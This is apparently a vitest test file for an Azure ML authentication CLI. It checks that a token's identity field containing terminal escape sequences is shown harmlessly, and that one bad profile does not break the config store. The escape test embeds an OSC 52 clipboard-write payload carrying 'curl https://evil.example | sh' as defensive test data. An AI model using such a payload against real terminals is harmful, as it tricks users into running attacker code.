import {spawn} from 'node:child_process';
import {existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync} from 'node:fs';
import {tmpdir} from 'node:os';
import {dirname, join, resolve} from 'node:path';
import {fileURLToPath} from 'node:url';
import {afterAll, beforeAll, describe, expect, it} from 'vitest';

// Issue 14's defects found by attacking the commands: the built CLI as a child process, with
// pipes, no sandbox unless a test needs one.

const root = resolve(dirname(fileURLToPath(import.meta.url)), '../..');
const cli = join(root, 'dist/cli.js');
const ESC = '\u001b';
// eslint-disable-next-line no-control-regex
const ACTIVE = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;

interface Run {
  code: number | null;
  signal: NodeJS.Signals | null;
  stdout: string;
  stderr: string;
}

let work: string;
let env: NodeJS.ProcessEnv;

export function runCli(
  args: string[],
  options: {env?: NodeJS.ProcessEnv; input?: string} = {},
): Promise<Run> {
  const child = spawn(process.execPath, [cli, ...args], {
    cwd: root,
    env: options.env ?? env,
    stdio: ['pipe', 'pipe', 'pipe'],
  });
  let stdout = '';
  let stderr = '';
  child.stdout.on('data', (c: Buffer) => (stdout += c.toString()));
  child.stderr.on('data', (c: Buffer) => (stderr += c.toString()));
  child.stdin.end(options.input ?? '');
  return new Promise((done) =>
    child.once('close', (code, signal) => done({code, signal, stdout, stderr})),
  );
}

beforeAll(() => {
  if (!existsSync(cli))
    throw new Error(`${cli} is missing: run \`npm run build\` first (npm test does).`);
  work = mkdtempSync(join(tmpdir(), 'aml-auth-robust-'));
  env = {};
  for (const [k, v] of Object.entries(process.env))
    if (!/^(AZURE_|AML_AUTH_|CI$|FORCE_COLOR$|DISPLAY$|WAYLAND_DISPLAY$|TMUX$)/.test(k)) env[k] = v;
  env = {...env, NO_COLOR: '1', AML_AUTH_CONFIG_DIR: join(work, 'config')};
});

afterAll(() => {
  if (work) rmSync(work, {recursive: true, force: true});
});

const part = (o: unknown) => Buffer.from(JSON.stringify(o)).toString('base64url');

describe('terminal escape injection', () => {
  it('token inspect shows an OSC 52 sequence in upn visibly, in text and JSON, exit 0', async () => {
    const payload = Buffer.from('curl https://evil.example | sh').toString('base64');
    const token = `${part({alg: 'RS256', typ: 'JWT'})}.${part({
      aud: 'https://management.azure.com',
      upn: `eve@contoso.com${ESC}]52;c;${payload}\u0007\r${ESC}[2K`,
      oid: '00000000-0000-0000-0000-0000000000e1',
      tid: '00000000-0000-0000-0000-0000000000a1',
      scp: 'user_impersonation',
      exp: 4_000_000_000,
    })}.c2ln`;
    const text = await runCli(['token', 'inspect', '-'], {input: token});
    expect(text.stderr).toBe('');
    expect(text.code).toBe(0);
    expect(text.stdout).not.toMatch(ACTIVE);
    expect(text.stdout).toContain(
      `identity    user eve@contoso.com\\x1b]52;c;${payload}\\x07\\x0d\\x1b[2K`,
    );

    const json = await runCli(['token', 'inspect', '-', '-o', 'json'], {input: token});
    expect(json.code).toBe(0);
    expect(json.stdout).not.toMatch(ACTIVE);
    expect((JSON.parse(json.stdout) as {identity: {name: string}}).identity.name).toContain(
      '\\x1b]52;c;',
    );
  });
});

describe('one invalid profile does not take the store out of use', () => {
  it('profiles show of a valid profile works, and every run names the bad entry and its backup', async () => {
    const dir = join(work, 'one-bad');
    mkdirSync(dir, {recursive: true});
    const entry = (name: string) => ({
      name,
      cloud: 'AzureCloud',
      tenantId: '72f988bf-86f1-41af-91ab-2d7cd011db47',
      signIn: {method: 'cli'},
      subscription: {id: '11111111-2222-3333-4444-555555555555', name: 'Dev'},
      resourceGroup: 'rg',
      workspace: 'ws',
      endpoint: 'churn-scorer',
      authMode: 'key',
      createdAt: '2026-01-01T00:00:00.000Z',
      lastUsedAt: '2026-01-01T00:00:00.000Z',
    });
    writeFileSync(
      join(dir, 'config.json'),
      JSON.stringify({
        schemaVersion: 1,
        profiles: {p0: entry('p0'), p1: {...entry('p1'), deployment: ''}},
      }),
    );
    const runEnv = {...env, AML_AUTH_CONFIG_DIR: dir};
    for (const _ of [1, 2]) {
      const shown = await runCli(['profiles', 'show', 'p0', '-o', 'json'], {env: runEnv});
      expect(shown.code).toBe(0);
      expect((JSON.parse(shown.stdout) as {profile: {name: string}}).profile.name).toBe('p0');
      expect(shown.stderr).toContain('Profile "p1"');
      expect(shown.stderr).toContain(join(dir, 'config.invalid-profiles.json'));
    }
    const kept = JSON.parse(readFileSync(join(dir, 'config.invalid-profiles.json'), 'utf8')) as {
      profiles: {entry: {deployment: string}}[];
    };
    expect(kept.profiles[0]!.entry.deployment).toBe('');
  });
});
